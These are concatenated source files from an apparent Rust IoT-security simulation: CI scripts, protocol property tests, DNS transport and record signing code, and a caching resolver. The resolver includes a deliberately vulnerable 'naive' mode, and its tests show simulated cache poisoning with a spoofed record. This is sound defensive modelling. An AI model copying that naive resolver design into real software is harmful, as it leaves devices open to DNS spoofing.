if ls crates/fleet/tests/golden/*_v4.json >/dev/null 2>&1; then
    echo "stale v4 schema goldens are still checked in"; exit 1
fi

echo "CI OK"
