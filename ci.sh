#!/usr/bin/env bash
# CI gate: formatting, lints, and the tier-1 build + test suite.
# Run from the repository root.
set -euo pipefail
cd "$(dirname "$0")"

echo "== cargo fmt --check"
cargo fmt --check

echo "== cargo clippy --workspace -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

echo "== tier-1: cargo build --release && cargo test -q"
cargo build --release
cargo test -q

echo "== smoke: fleet orchestration (32 homes, 4 workers)"
tmpdir="$(mktemp -d)"
trap 'rm -rf "$tmpdir"' EXIT
# Smoke runs write to the tmpdir: the committed BENCH_fleet.json is the
# canonical 1000-home point and must not be overwritten by a 32-home run.
./target/release/exp_fleet --homes 32 --workers 4 --horizon 420 --json "$tmpdir/bench_smoke.json"

echo "== bench freshness: committed BENCH_fleet.json matches the current schema"
metrics_schema="$(sed -n 's/^pub const FLEET_METRICS_SCHEMA_VERSION: u32 = \([0-9]*\);$/\1/p' \
    crates/fleet/src/metrics.rs)"
test -n "$metrics_schema" \
    || { echo "could not extract FLEET_METRICS_SCHEMA_VERSION from metrics.rs"; exit 1; }
grep -q "\"metrics\": {\"schema_version\":$metrics_schema," BENCH_fleet.json \
    || { echo "BENCH_fleet.json embeds stale metrics (want schema v$metrics_schema); \
regenerate with exp_fleet --homes 1000 --repeats 3"; exit 1; }
python3 - <<'EOF'
import json
bench = json.load(open("BENCH_fleet.json"))
assert bench["homes"] >= 1000, f"BENCH_fleet.json is a {bench['homes']}-home smoke artifact"
assert bench["speedup"] >= 0.95, f"sharding overhead regressed: speedup {bench['speedup']}"
EOF

echo "== schema stability: byte-identical fleet reports across reruns"
./target/release/exp_fleet --homes 16 --workers 2 --horizon 420 --capacity 64 \
    --report "$tmpdir/report_a.json" --json "$tmpdir/bench_a.json" >/dev/null
./target/release/exp_fleet --homes 16 --workers 2 --horizon 420 --capacity 64 \
    --report "$tmpdir/report_b.json" --json "$tmpdir/bench_b.json" >/dev/null
diff "$tmpdir/report_a.json" "$tmpdir/report_b.json" \
    || { echo "fleet report is not stable across reruns"; exit 1; }
grep -q '"schema_version":' "$tmpdir/report_a.json" \
    || { echo "fleet report JSON is missing schema_version"; exit 1; }
grep -q '"schema_version":' BENCH_fleet.json \
    || { echo "fleet metrics JSON is missing schema_version"; exit 1; }

echo "== smoke: fault injection + supervised execution (18 homes, 2 workers)"
./target/release/exp_faults --homes 18 --workers 2 --json "$tmpdir/bench_faults.json"
grep -q '"conservation":' "$tmpdir/bench_faults.json" \
    || { echo "fault bench JSON is missing the conservation note"; exit 1; }

echo "== smoke: streamed correlation interval sweep (24 homes, 2 workers)"
./target/release/exp_stream --homes 24 --workers 2 --json "$tmpdir/bench_stream.json"
grep -q '"checkpoint_stable": true' "$tmpdir/bench_stream.json" \
    || { echo "stream bench JSON lost checkpoint/resume stability"; exit 1; }
grep -q '"verdicts_match_batch": true' "$tmpdir/bench_stream.json" \
    || { echo "stream bench JSON lost verdict parity with batch"; exit 1; }

echo "== smoke: engine hot-path ratio gates (self-asserting)"
./target/release/exp_engine --smoke --json "$tmpdir/bench_engine.json"
grep -q '"knn_graph_speedup_at_1k":' "$tmpdir/bench_engine.json" \
    || { echo "engine bench JSON is missing the acceptance block"; exit 1; }

echo "== smoke: OTA campaign containment (64 homes, 4 workers, self-asserting)"
./target/release/exp_ota --homes 64 --workers 4 --json "$tmpdir/bench_ota.json"
grep -q '"byte_identical_workers": true' "$tmpdir/bench_ota.json" \
    || { echo "ota bench JSON lost worker-count byte identity"; exit 1; }
grep -q '"contained": true' "$tmpdir/bench_ota.json" \
    || { echo "ota bench JSON shows no contained tampered campaign"; exit 1; }

echo "== smoke: durable checkpoint/resume chaos gate (16 homes, 2 workers, self-asserting)"
./target/release/exp_recovery --homes 16 --workers 2 --repeats 5 \
    --json "$tmpdir/bench_recovery.json"
grep -q '"byte_identical_resume": true' "$tmpdir/bench_recovery.json" \
    || { echo "recovery bench JSON lost resume byte identity"; exit 1; }
grep -q '"within_3pct": true' "$tmpdir/bench_recovery.json" \
    || { echo "recovery bench JSON exceeds the snapshot overhead budget"; exit 1; }

echo "== bench freshness: committed BENCH_recovery.json is current"
python3 - <<'PYEOF'
import json
bench = json.load(open("BENCH_recovery.json"))
assert bench["experiment"] == "recovery", "BENCH_recovery.json is not a recovery artifact"
assert bench["homes"] >= 32, f"BENCH_recovery.json is a {bench['homes']}-home smoke artifact"
assert bench["byte_identical_resume"] is True, "committed recovery point lost byte identity"
assert bench["overhead"]["within_3pct"] is True, "committed recovery point exceeds overhead budget"
assert all(k["byte_identical"] for k in bench["kills"]), "a committed kill row diverged"
PYEOF

echo "== smoke: hierarchical scale tiers (10k homes, self-asserting)"
./target/release/exp_scale --homes 10000 --workers 4 --horizon 240 \
    --max-rss-mb 512 --json "$tmpdir/bench_scale.json"
grep -q '"byte_identical_regions": true' "$tmpdir/bench_scale.json" \
    || { echo "scale bench JSON lost region-count byte identity"; exit 1; }
grep -q '"sublinear_memory": true' "$tmpdir/bench_scale.json" \
    || { echo "scale bench JSON lost sublinear peak-RSS scaling"; exit 1; }

echo "== smoke: secure onboarding admission gate (64 homes, 4 workers, self-asserting)"
./target/release/exp_onboard --homes 64 --workers 4 --json "$tmpdir/bench_onboard.json"
grep -q '"byte_identical_layouts": true' "$tmpdir/bench_onboard.json" \
    || { echo "onboard bench JSON lost layout byte identity"; exit 1; }
grep -q '"variant": "benign", "joins": 64, "admitted": 64' "$tmpdir/bench_onboard.json" \
    || { echo "onboard bench JSON shows join failures in the benign fleet"; exit 1; }
if grep -E '"rogue_admissions": [1-9]' "$tmpdir/bench_onboard.json"; then
    echo "onboard bench JSON admitted a rogue join"; exit 1
fi

echo "== bench freshness: committed BENCH_onboard.json is current"
python3 - <<'PYEOF'
import json
bench = json.load(open("BENCH_onboard.json"))
assert bench["experiment"] == "onboard", "BENCH_onboard.json is not an onboarding artifact"
assert bench["byte_identical_layouts"] is True, "committed onboard point lost layout identity"
assert all(r["rogue_admissions"] == 0 for r in bench["runs"]), "a committed run admitted a rogue join"
benign = next(r for r in bench["runs"] if r["variant"] == "benign")
assert benign["admitted"] == benign["joins"], "committed benign fleet shows join failures"
assert benign["energy_mj"] > 0, "committed benign fleet charges no join energy"
PYEOF

echo "== golden-byte rerun gate: report bytes unchanged across reruns"
cargo test -p xlf-fleet --test schema -q
cargo test -p xlf-fleet --test determinism -q

echo "== schema gate: v8 goldens are current (and v7 goldens are retired)"
ls crates/fleet/tests/golden/fleet_report_v8.json \
   crates/fleet/tests/golden/fleet_metrics_v8.json \
   crates/fleet/tests/golden/fleet_report_campaign_v8.json \
   crates/fleet/tests/golden/fleet_report_onboard_v8.json >/dev/null \
    || { echo "v8 schema goldens are missing"; exit 1; }
if ls crates/fleet/tests/golden/*_v7.json >/dev/null 2>&1; then
    echo "stale v7 schema goldens are still checked in"; exit 1
fi

echo "CI OK"
