//! Property-based tests over the protocol substrates: codecs must
//! roundtrip arbitrary well-formed inputs and security layers must hold
//! their invariants under arbitrary payloads.

use proptest::prelude::*;
use xlf_protocols::dns::{encode_query, encode_response, DnsRecord, DnsTransport, RecordType};
use xlf_protocols::ieee802154::{FrameReceiver, FrameSender, SecurityLevel};
use xlf_protocols::rest::{Method, Request, Response};
use xlf_protocols::ssdp::SsdpMessage;
use xlf_protocols::tls::{Role, Session, TlsError};

fn qname_strategy() -> impl Strategy<Value = String> {
    "[a-z0-9]{1,12}(\\.[a-z0-9]{1,12}){0,3}"
}

fn token_text() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9_-]{1,24}"
}

proptest! {
    /// DNS transports roundtrip any qname/txid; encrypted transports never
    /// leak the name bytes in the wire form.
    #[test]
    fn dns_query_roundtrip(qname in qname_strategy(), txid in any::<u16>()) {
        for transport in [
            DnsTransport::Plain,
            DnsTransport::DoT,
            DnsTransport::DoH,
            DnsTransport::XlfLightweight,
        ] {
            let wire = encode_query(transport, &qname, txid, b"secret");
            let (t, name) = encode_response(transport, &wire, b"secret").unwrap();
            prop_assert_eq!(t, txid);
            prop_assert_eq!(&name, &qname);
            if !transport.qname_visible() && qname.len() >= 4 {
                prop_assert!(
                    !wire.bytes.windows(qname.len()).any(|w| w == qname.as_bytes()),
                    "{transport:?} leaked the qname"
                );
            }
        }
    }

    /// Signed DNS records validate; any change to any field invalidates.
    #[test]
    fn dnssec_signature_binds_all_fields(name in qname_strategy(),
                                         value in token_text(),
                                         ttl in 1u64..100_000) {
        let rec = DnsRecord::new(&name, RecordType::A, &value, ttl).sign(b"zone");
        prop_assert!(rec.validate(b"zone"));
        let mut tampered = rec.clone();
        tampered.ttl_secs += 1;
        prop_assert!(!tampered.validate(b"zone"));
        let mut tampered = rec.clone();
        tampered.value.push('x');
        prop_assert!(!tampered.validate(b"zone"));
    }

    /// TLS-lite: arbitrary payload streams roundtrip in order; any
    /// single-bit corruption of any record is rejected.
    #[test]
    fn tls_stream_roundtrip_and_integrity(
        psk in prop::collection::vec(any::<u8>(), 1..32),
        payloads in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..64), 1..8),
        corrupt_bit in any::<u16>(),
    ) {
        let mut client = Session::establish(&psk, "prop", Role::Client);
        let mut server = Session::establish(&psk, "prop", Role::Server);
        for payload in &payloads {
            let record = client.seal(payload).unwrap();
            prop_assert_eq!(&server.open(&record).unwrap(), payload);
        }
        // Corrupt a fresh record anywhere: must fail.
        let record = client.seal(b"target").unwrap();
        let mut bad = record.clone();
        let bit = corrupt_bit as usize % (bad.len() * 8);
        bad[bit / 8] ^= 1 << (bit % 8);
        let outcome = server.open(&bad);
        let rejected = matches!(
            outcome,
            Err(TlsError::BadRecordMac) | Err(TlsError::Replay { .. }) | Err(TlsError::Malformed)
        );
        prop_assert!(rejected, "corrupted record accepted: {outcome:?}");
    }

    /// 802.15.4: ENC-MIC roundtrips arbitrary payloads; replaying any
    /// accepted frame is rejected; frames never expose the plaintext.
    #[test]
    fn frame_security_invariants(key in prop::collection::vec(any::<u8>(), 1..32),
                                 payload in prop::collection::vec(any::<u8>(), 8..96)) {
        let mut tx = FrameSender::new(7, &key);
        let mut rx = FrameReceiver::new(&key, &[7]);
        let frame = tx.secure(SecurityLevel::EncMic, &payload);
        prop_assert!(
            !frame.body.windows(payload.len()).any(|w| w == &payload[..])
                || payload.iter().all(|&b| b == payload[0]),
            "ciphertext leaked plaintext"
        );
        prop_assert_eq!(rx.receive(&frame).unwrap(), payload);
        prop_assert!(rx.receive(&frame).is_err());
    }

    /// REST requests roundtrip arbitrary tokens/paths/bodies.
    #[test]
    fn rest_request_roundtrip(path in "/[a-z0-9/]{0,32}",
                              token in proptest::option::of(token_text()),
                              body in prop::collection::vec(any::<u8>(), 0..128)) {
        let mut req = Request::new(Method::Post, &path).with_body(body);
        if let Some(t) = &token {
            req = req.with_token(t);
        }
        let parsed = Request::from_bytes(&req.to_bytes()).unwrap();
        prop_assert_eq!(parsed, req);
    }

    /// REST responses roundtrip arbitrary statuses/bodies.
    #[test]
    fn rest_response_roundtrip(status in 100u16..600,
                               body in prop::collection::vec(any::<u8>(), 0..128)) {
        let resp = Response { status, body };
        prop_assert_eq!(Response::from_bytes(&resp.to_bytes()).unwrap(), resp);
    }

    /// SSDP NOTIFY roundtrips arbitrary field sets.
    #[test]
    fn ssdp_roundtrip(device_type in token_text(),
                      usn in token_text(),
                      fields in prop::collection::btree_map(token_text(), token_text(), 0..5)) {
        let mut msg = SsdpMessage::notify(&device_type, &usn);
        for (k, v) in &fields {
            // Avoid colliding with the reserved NT/USN headers.
            if k != "NT" && k != "USN" {
                msg = msg.with_field(k, v);
            }
        }
        prop_assert_eq!(SsdpMessage::from_bytes(&msg.to_bytes()).unwrap(), msg);
    }

    /// Parsers never panic on arbitrary bytes (fuzz-shaped property).
    #[test]
    fn parsers_are_panic_free(garbage in prop::collection::vec(any::<u8>(), 0..256)) {
        let _ = Request::from_bytes(&garbage);
        let _ = Response::from_bytes(&garbage);
        let _ = SsdpMessage::from_bytes(&garbage);
        let _ = xlf_device::firmware::FirmwareImage::from_bytes(&garbage);
    }
}
