//! DNS privacy transports (§IV-A3).
//!
//! The paper surveys DoT/DoH/DNSCrypt and observes they are "designed for
//! conventional devices with abundant resources", proposing that the XLF
//! Core bridge lightweight-cipher DNS on the device side to standard
//! encrypted DNS on the Internet side. Each transport here differs in what
//! a passive observer can read and what it costs a constrained device.

use xlf_lwcrypto::ciphers::{Present80, Speck128};
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::modes::Ctr;
use xlf_lwcrypto::BlockCipher;

/// How a DNS query travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DnsTransport {
    /// Plain UDP port 53: qname visible to every on-path observer.
    Plain,
    /// DNS-over-TLS: encrypted, but with full TLS record overhead.
    DoT,
    /// DNS-over-HTTPS: encrypted, largest overhead (HTTP framing).
    DoH,
    /// XLF-bridged lightweight DNS: encrypted with a lightweight cipher
    /// between device and XLF Core, which re-encrypts with standard TLS
    /// upstream (§IV-A3's proposal).
    XlfLightweight,
}

impl DnsTransport {
    /// Whether a passive observer sees the query name.
    pub fn qname_visible(self) -> bool {
        matches!(self, DnsTransport::Plain)
    }

    /// Per-message byte overhead added on top of the raw query.
    pub fn overhead_bytes(self) -> usize {
        match self {
            DnsTransport::Plain => 12,               // DNS header
            DnsTransport::DoT => 12 + 29,            // + TLS record framing
            DnsTransport::DoH => 12 + 29 + 120,      // + HTTP/2 framing
            DnsTransport::XlfLightweight => 12 + 10, // + token & nonce
        }
    }

    /// Estimated device-side cycles per query (encryption cost class);
    /// drives the E-M2 feasibility comparison for constrained devices.
    pub fn device_cycles_per_query(self) -> u64 {
        match self {
            DnsTransport::Plain => 200,
            DnsTransport::DoT => 60_000,           // full TLS stack
            DnsTransport::DoH => 110_000,          // TLS + HTTP
            DnsTransport::XlfLightweight => 4_000, // one lightweight cipher pass
        }
    }
}

/// A DNS query ready for the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WireQuery {
    /// Encoded bytes (encrypted for private transports).
    pub bytes: Vec<u8>,
    /// The qname an on-path observer can extract, if any.
    pub observable_qname: Option<String>,
    /// Total wire size including transport overhead.
    pub wire_size: usize,
}

// Invariant, not input validation: the output lengths handed to
// `derive_key` match the fixed key sizes of the ciphers constructed on the
// same line, so these branches can only fire if that pairing is edited —
// never from wire data or a caller-supplied secret.
fn transport_cipher(transport: DnsTransport, session_secret: &[u8]) -> Box<dyn BlockCipher> {
    match transport {
        DnsTransport::XlfLightweight => Box::new(
            derive_key(session_secret, "dns-lightweight", 10)
                .map_err(|_| ())
                .and_then(|key| Present80::new(&key).map_err(|_| ()))
                .unwrap_or_else(|()| unreachable!("10-byte derivation keys Present80")),
        ),
        _ => Box::new(
            derive_key(session_secret, "dns-tls", 16)
                .map_err(|_| ())
                .and_then(|key| Speck128::new(&key).map_err(|_| ()))
                .unwrap_or_else(|()| unreachable!("16-byte derivation keys Speck128")),
        ),
    }
}

/// Encodes a query for the wire under the given transport.
///
/// `session_secret` keys the encrypted transports (ignored for plain).
pub fn encode_query(
    transport: DnsTransport,
    qname: &str,
    txid: u16,
    session_secret: &[u8],
) -> WireQuery {
    // The txid travels in the clear (it is a random per-query value, not
    // private data) and doubles as the encryption nonce for the qname.
    let mut body = txid.to_be_bytes().to_vec();
    let mut name_bytes = qname.as_bytes().to_vec();
    let observable = if transport.qname_visible() {
        Some(qname.to_string())
    } else {
        let cipher = transport_cipher(transport, session_secret);
        let mut nonce = vec![0u8; cipher.block_size()];
        nonce[..2].copy_from_slice(&txid.to_be_bytes());
        Ctr::new(cipher.as_ref(), &nonce).apply(&mut name_bytes);
        None
    };
    body.extend_from_slice(&name_bytes);
    let wire_size = body.len() + transport.overhead_bytes();
    WireQuery {
        bytes: body,
        observable_qname: observable,
        wire_size,
    }
}

/// Decodes a query at the legitimate endpoint (reverses [`encode_query`]).
///
/// Returns `(txid, qname)`, or `None` for undecodable input.
pub fn encode_response(
    transport: DnsTransport,
    wire: &WireQuery,
    session_secret: &[u8],
) -> Option<(u16, String)> {
    if wire.bytes.len() < 2 {
        return None;
    }
    let txid = u16::from_be_bytes([wire.bytes[0], wire.bytes[1]]);
    let mut name_bytes = wire.bytes[2..].to_vec();
    if !transport.qname_visible() {
        let cipher = transport_cipher(transport, session_secret);
        let mut nonce = vec![0u8; cipher.block_size()];
        nonce[..2].copy_from_slice(&txid.to_be_bytes());
        Ctr::new(cipher.as_ref(), &nonce).apply(&mut name_bytes);
    }
    let name = String::from_utf8(name_bytes).ok()?;
    if !name.chars().all(|c| c.is_ascii_graphic()) {
        return None;
    }
    Some((txid, name))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &[u8] = b"device session secret";

    #[test]
    fn plain_leaks_qname() {
        let q = encode_query(DnsTransport::Plain, "nest.example", 7, SECRET);
        assert_eq!(q.observable_qname.as_deref(), Some("nest.example"));
    }

    #[test]
    fn encrypted_transports_hide_qname() {
        for t in [
            DnsTransport::DoT,
            DnsTransport::DoH,
            DnsTransport::XlfLightweight,
        ] {
            let q = encode_query(t, "nest.example", 7, SECRET);
            assert!(q.observable_qname.is_none(), "{t:?} leaked");
            // Ciphertext must not contain the plaintext name.
            assert!(!q
                .bytes
                .windows(b"nest.example".len())
                .any(|w| w == b"nest.example"));
        }
    }

    #[test]
    fn endpoints_can_decode_every_transport() {
        for t in [
            DnsTransport::Plain,
            DnsTransport::DoT,
            DnsTransport::DoH,
            DnsTransport::XlfLightweight,
        ] {
            let q = encode_query(t, "hub.vendor.example", 300, SECRET);
            let (txid, name) = encode_response(t, &q, SECRET).unwrap_or_else(|| {
                panic!("{t:?} failed to decode");
            });
            assert_eq!(txid, 300);
            assert_eq!(name, "hub.vendor.example");
        }
    }

    #[test]
    fn overheads_order_matches_the_paper() {
        assert!(
            DnsTransport::Plain.overhead_bytes() < DnsTransport::XlfLightweight.overhead_bytes()
        );
        assert!(DnsTransport::XlfLightweight.overhead_bytes() < DnsTransport::DoT.overhead_bytes());
        assert!(DnsTransport::DoT.overhead_bytes() < DnsTransport::DoH.overhead_bytes());
    }

    #[test]
    fn lightweight_transport_is_cheap_on_device() {
        assert!(
            DnsTransport::XlfLightweight.device_cycles_per_query() * 10
                < DnsTransport::DoT.device_cycles_per_query()
        );
    }

    #[test]
    fn wrong_secret_cannot_decode() {
        let q = encode_query(
            DnsTransport::XlfLightweight,
            "hub.vendor.example",
            5,
            SECRET,
        );
        let decoded = encode_response(DnsTransport::XlfLightweight, &q, b"wrong secret");
        if let Some((txid, name)) = decoded {
            // Brute-force decode may coincidentally produce printable junk,
            // but never the true plaintext.
            assert!(!(txid == 5 && name == "hub.vendor.example"));
        }
    }
}
