//! Caching stub resolver with configurable hardening.
//!
//! The vulnerable configuration accepts any response whose name matches an
//! outstanding query (off-path spoofable); the hardened configuration
//! requires transaction-id matching and DNSSEC validation against
//! configured trust anchors — the §IV-A3 constrained-access posture.

use super::records::{DnsRecord, RecordType};
use std::collections::BTreeMap;
use xlf_simnet::SimTime;

/// Hardening knobs of a resolver.
#[derive(Debug, Clone)]
pub struct ResolverConfig {
    /// Require the response transaction id to match the query's.
    pub check_txid: bool,
    /// Require DNSSEC validation for zones with a configured trust anchor.
    pub validate_dnssec: bool,
}

impl ResolverConfig {
    /// The naive IoT-device resolver: trusts anything (Table II /
    /// `NaiveDnsTrust`).
    pub fn naive() -> Self {
        ResolverConfig {
            check_txid: false,
            validate_dnssec: false,
        }
    }

    /// The hardened XLF posture.
    pub fn hardened() -> Self {
        ResolverConfig {
            check_txid: true,
            validate_dnssec: true,
        }
    }
}

/// Result of feeding a response to the resolver.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ResolveOutcome {
    /// Response accepted and cached.
    Accepted,
    /// No outstanding query matches this response.
    Unsolicited,
    /// Transaction id mismatch (spoof attempt blocked).
    TxidMismatch,
    /// DNSSEC validation failed (spoof attempt blocked).
    ValidationFailed,
}

#[derive(Debug, Clone)]
struct CacheEntry {
    record: DnsRecord,
    expires: SimTime,
}

/// A caching resolver.
#[derive(Debug, Clone)]
pub struct Resolver {
    config: ResolverConfig,
    cache: BTreeMap<(String, RecordType), CacheEntry>,
    /// Outstanding queries: (name, rtype) → txid.
    pending: BTreeMap<(String, RecordType), u16>,
    /// zone → trust anchor secret.
    trust_anchors: BTreeMap<String, Vec<u8>>,
    next_txid: u16,
}

impl Resolver {
    /// Creates a resolver with the given hardening.
    pub fn new(config: ResolverConfig) -> Self {
        Resolver {
            config,
            cache: BTreeMap::new(),
            pending: BTreeMap::new(),
            trust_anchors: BTreeMap::new(),
            next_txid: 1,
        }
    }

    /// Installs a DNSSEC trust anchor for a zone.
    pub fn add_trust_anchor(&mut self, zone: &str, secret: &[u8]) {
        self.trust_anchors.insert(zone.to_string(), secret.to_vec());
    }

    /// Looks up the cache; expired entries are treated as absent.
    pub fn cached(&self, name: &str, rtype: RecordType, now: SimTime) -> Option<&DnsRecord> {
        self.cache
            .get(&(name.to_string(), rtype))
            .filter(|e| e.expires > now)
            .map(|e| &e.record)
    }

    /// Registers an outgoing query and returns its transaction id.
    pub fn start_query(&mut self, name: &str, rtype: RecordType) -> u16 {
        let txid = self.next_txid;
        self.next_txid = self.next_txid.wrapping_add(1).max(1);
        self.pending.insert((name.to_string(), rtype), txid);
        txid
    }

    fn zone_of(name: &str) -> String {
        let labels: Vec<&str> = name.split('.').collect();
        if labels.len() <= 2 {
            name.to_string()
        } else {
            labels[labels.len() - 2..].join(".")
        }
    }

    /// Feeds a response (legitimate or spoofed) to the resolver.
    pub fn handle_response(
        &mut self,
        record: DnsRecord,
        response_txid: u16,
        now: SimTime,
    ) -> ResolveOutcome {
        let key = (record.name.clone(), record.rtype);
        let Some(&expected_txid) = self.pending.get(&key) else {
            return ResolveOutcome::Unsolicited;
        };
        if self.config.check_txid && response_txid != expected_txid {
            return ResolveOutcome::TxidMismatch;
        }
        if self.config.validate_dnssec {
            let zone = Self::zone_of(&record.name);
            if let Some(anchor) = self.trust_anchors.get(&zone) {
                if !record.validate(anchor) {
                    return ResolveOutcome::ValidationFailed;
                }
            }
        }
        self.pending.remove(&key);
        let expires = now + xlf_simnet::Duration::from_secs(record.ttl_secs);
        self.cache.insert(key, CacheEntry { record, expires });
        ResolveOutcome::Accepted
    }

    /// Number of cached entries (including expired ones not yet evicted).
    pub fn cache_len(&self) -> usize {
        self.cache.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ZONE_SECRET: &[u8] = b"vendor zone";

    fn legit() -> DnsRecord {
        DnsRecord::new("hub.vendor.example", RecordType::A, "n3", 300).sign(ZONE_SECRET)
    }

    fn spoof() -> DnsRecord {
        DnsRecord::new("hub.vendor.example", RecordType::A, "n666", 300)
    }

    #[test]
    fn naive_resolver_is_poisonable() {
        let mut r = Resolver::new(ResolverConfig::naive());
        let _txid = r.start_query("hub.vendor.example", RecordType::A);
        // Off-path spoofer guesses txid wrong and has no zone key.
        let outcome = r.handle_response(spoof(), 0xDEAD, SimTime::ZERO);
        assert_eq!(outcome, ResolveOutcome::Accepted);
        assert_eq!(
            r.cached("hub.vendor.example", RecordType::A, SimTime::ZERO)
                .unwrap()
                .value,
            "n666"
        );
    }

    #[test]
    fn txid_checking_blocks_blind_spoofing() {
        let mut r = Resolver::new(ResolverConfig {
            check_txid: true,
            validate_dnssec: false,
        });
        let txid = r.start_query("hub.vendor.example", RecordType::A);
        assert_eq!(
            r.handle_response(spoof(), txid.wrapping_add(1), SimTime::ZERO),
            ResolveOutcome::TxidMismatch
        );
        // An on-path attacker who sees the txid still wins without DNSSEC.
        assert_eq!(
            r.handle_response(spoof(), txid, SimTime::ZERO),
            ResolveOutcome::Accepted
        );
    }

    #[test]
    fn dnssec_blocks_even_on_path_spoofing() {
        let mut r = Resolver::new(ResolverConfig::hardened());
        r.add_trust_anchor("vendor.example", ZONE_SECRET);
        let txid = r.start_query("hub.vendor.example", RecordType::A);
        assert_eq!(
            r.handle_response(spoof(), txid, SimTime::ZERO),
            ResolveOutcome::ValidationFailed
        );
        assert_eq!(
            r.handle_response(legit(), txid, SimTime::ZERO),
            ResolveOutcome::Accepted
        );
        assert_eq!(
            r.cached("hub.vendor.example", RecordType::A, SimTime::ZERO)
                .unwrap()
                .value,
            "n3"
        );
    }

    #[test]
    fn unsolicited_responses_are_ignored() {
        let mut r = Resolver::new(ResolverConfig::naive());
        assert_eq!(
            r.handle_response(legit(), 1, SimTime::ZERO),
            ResolveOutcome::Unsolicited
        );
        assert_eq!(r.cache_len(), 0);
    }

    #[test]
    fn cache_respects_ttl() {
        let mut r = Resolver::new(ResolverConfig::naive());
        let txid = r.start_query("hub.vendor.example", RecordType::A);
        r.handle_response(legit(), txid, SimTime::ZERO);
        assert!(r
            .cached("hub.vendor.example", RecordType::A, SimTime::from_secs(299))
            .is_some());
        assert!(r
            .cached("hub.vendor.example", RecordType::A, SimTime::from_secs(301))
            .is_none());
    }

    #[test]
    fn accepted_response_consumes_the_pending_query() {
        let mut r = Resolver::new(ResolverConfig::naive());
        let txid = r.start_query("hub.vendor.example", RecordType::A);
        assert_eq!(
            r.handle_response(legit(), txid, SimTime::ZERO),
            ResolveOutcome::Accepted
        );
        // A second (spoofed) response for the same query no longer lands.
        assert_eq!(
            r.handle_response(spoof(), txid, SimTime::ZERO),
            ResolveOutcome::Unsolicited
        );
    }
}
