//! DNS records with optional DNSSEC-style signatures.
//!
//! DNSSEC's public-key RRSIGs are modeled with a symmetric MAC under a
//! per-zone secret shared with validating resolvers (the trust anchor).
//! This preserves the property the experiments need — an off-path spoofer
//! without the zone key cannot forge a validating record — without
//! implementing a full PKI (the paper's point is *deployment* of secure
//! naming, not the asymmetric primitive).

use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::mac::CbcMac;

/// Record type (the subset the simulation uses).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum RecordType {
    /// Address record: name → node address string (e.g. `"n7"`).
    A,
    /// Free-form text record.
    Txt,
}

/// A resource record, optionally signed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DnsRecord {
    /// Fully qualified name, e.g. `"telemetry.nest.example"`.
    pub name: String,
    /// Record type.
    pub rtype: RecordType,
    /// Record value (address string or text).
    pub value: String,
    /// Time-to-live in seconds.
    pub ttl_secs: u64,
    /// DNSSEC-style signature under the zone key, if the zone signs.
    pub rrsig: Option<Vec<u8>>,
}

fn canonical_bytes(name: &str, rtype: RecordType, value: &str, ttl_secs: u64) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(name.as_bytes());
    out.push(0);
    out.push(match rtype {
        RecordType::A => 1,
        RecordType::Txt => 16,
    });
    out.extend_from_slice(value.as_bytes());
    out.push(0);
    out.extend_from_slice(&ttl_secs.to_be_bytes());
    out
}

fn zone_cipher(zone_secret: &[u8]) -> Speck128 {
    let key = derive_key(zone_secret, "dnssec-zone-key", 16)
        .unwrap_or_else(|_| unreachable!("non-empty label and length"));
    Speck128::new(&key).unwrap_or_else(|_| unreachable!("derive_key returned 16 bytes"))
}

impl DnsRecord {
    /// Creates an unsigned record.
    pub fn new(name: &str, rtype: RecordType, value: &str, ttl_secs: u64) -> Self {
        DnsRecord {
            name: name.to_string(),
            rtype,
            value: value.to_string(),
            ttl_secs,
            rrsig: None,
        }
    }

    /// Signs the record under a zone secret (DNSSEC stand-in).
    pub fn sign(mut self, zone_secret: &[u8]) -> Self {
        let cipher = zone_cipher(zone_secret);
        let mac = CbcMac::new(&cipher);
        self.rrsig = Some(
            mac.tag(&canonical_bytes(
                &self.name,
                self.rtype,
                &self.value,
                self.ttl_secs,
            ))
            .unwrap_or_else(|_| unreachable!("CBC-MAC tagging is total")),
        );
        self
    }

    /// Validates the signature against a trust anchor. Unsigned records
    /// always fail validation.
    pub fn validate(&self, zone_secret: &[u8]) -> bool {
        let Some(sig) = &self.rrsig else {
            return false;
        };
        let cipher = zone_cipher(zone_secret);
        let mac = CbcMac::new(&cipher);
        mac.verify(
            &canonical_bytes(&self.name, self.rtype, &self.value, self.ttl_secs),
            sig,
        )
        .unwrap_or_else(|_| unreachable!("CBC-MAC verification is total"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ZONE: &[u8] = b"example zone secret";

    #[test]
    fn signed_record_validates() {
        let rec = DnsRecord::new("cam.example", RecordType::A, "n9", 300).sign(ZONE);
        assert!(rec.validate(ZONE));
    }

    #[test]
    fn unsigned_record_fails_validation() {
        let rec = DnsRecord::new("cam.example", RecordType::A, "n9", 300);
        assert!(!rec.validate(ZONE));
    }

    #[test]
    fn tampered_value_fails_validation() {
        // The cache-poisoning payload: same name, attacker address.
        let mut rec = DnsRecord::new("cam.example", RecordType::A, "n9", 300).sign(ZONE);
        rec.value = "n666".to_string();
        assert!(!rec.validate(ZONE));
    }

    #[test]
    fn wrong_zone_key_fails_validation() {
        let rec = DnsRecord::new("cam.example", RecordType::A, "n9", 300).sign(ZONE);
        assert!(!rec.validate(b"other zone"));
    }

    #[test]
    fn canonical_encoding_separates_fields() {
        // ("a", value "bc") must not collide with ("ab", value "c").
        let r1 = DnsRecord::new("a", RecordType::Txt, "bc", 60).sign(ZONE);
        let r2 = DnsRecord::new("ab", RecordType::Txt, "c", 60).sign(ZONE);
        assert_ne!(r1.rrsig, r2.rrsig);
    }
}
