//! Authoritative DNS server for one or more zones.

use super::records::{DnsRecord, RecordType};
use std::collections::BTreeMap;

/// An authoritative server holding (optionally signed) zones.
